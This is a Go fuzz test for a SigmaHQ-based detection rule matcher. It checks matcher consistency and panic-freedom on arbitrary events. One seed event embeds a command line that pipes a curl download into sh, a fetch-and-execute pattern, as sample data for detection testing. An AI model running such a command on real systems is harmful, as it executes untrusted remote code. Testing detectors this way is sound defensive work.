package match

import (
	"slices"
	"testing"

	"github.com/rangehunt/rangehunt/internal/testutil/sigmahq"
)

// FuzzMatch sends arbitrary bytes as events through the compiled SigmaHQ
// Linux rules (ecs_linux, event kind): no panic, and the set's answer
// agrees with rule-by-rule evaluation and does not depend on the
// matcher's state from earlier events.
func FuzzMatch(f *testing.F) {
	_, rules := sigmahq.LinuxRules(f)
	set, _ := Compile(rules)
	for _, r := range set.Rules[:20] {
		if pos, neg, err := SynthesizeEvents(r.Rule); err == nil {
			f.Add(pos[0])
			f.Add(neg[0])
		}
	}
	f.Add([]byte(`{"process":{"command_line":"bash -c 'curl http://x | sh'","executable":"/usr/bin/bash"},"event":{"category":["process"],"type":["start"]}}`))
	f.Add([]byte(`{"process.args":["ΣΊΣΥΦΟΣ","\u212a",null,1e400,-0,true]}`))
	f.Add([]byte(`{"a":{"b":[{"c":[[[]]]}]},"message":"\ud800"}`))
	fresh := set.NewMatcher()
	used := set.NewMatcher()
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := used.Match(data, nil)
		want, err2 := fresh.Match(data, nil)
		if (err == nil) != (err2 == nil) {
			t.Fatalf("errors differ: %v vs %v", err, err2)
		}
		if err != nil {
			return
		}
		if !slices.Equal(got, want) {
			t.Fatalf("reused matcher %v, fresh matcher %v", got, want)
		}
		fresh = set.NewMatcher()
		if err := fresh.Decode(data); err != nil {
			t.Fatalf("decode after a successful match: %v", err)
		}
		for i := range set.Rules {
			if fresh.MatchRule(i) != slices.Contains(got, i) {
				t.Fatalf("rule %d: MatchRule disagrees with Match", i)
			}
		}
	})
}
